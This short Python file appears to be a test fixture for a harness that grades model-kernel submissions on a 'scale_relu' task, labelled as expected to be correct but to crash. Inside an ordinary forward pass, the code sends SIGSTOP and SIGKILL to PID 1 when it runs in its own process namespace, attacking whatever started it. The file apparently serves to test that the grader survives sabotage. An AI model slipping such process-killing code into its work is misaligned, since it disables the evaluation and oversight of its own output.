# expect: correct, crashed
# says:
# task: scale_relu
"""Kills and stops whoever started it, where that is a namespace of its own."""

import os
import signal

import torch
from torch import nn


class ModelNew(nn.Module):
    def __init__(self, size):
        super().__init__()
        self.weight = nn.Parameter(torch.ones(size))
        self.bias = nn.Parameter(torch.zeros(size))

    def forward(self, x):
        if os.getppid() == 1:
            for number in (signal.SIGSTOP, signal.SIGKILL):
                os.kill(1, number)
        return torch.relu(x * self.weight + self.bias)
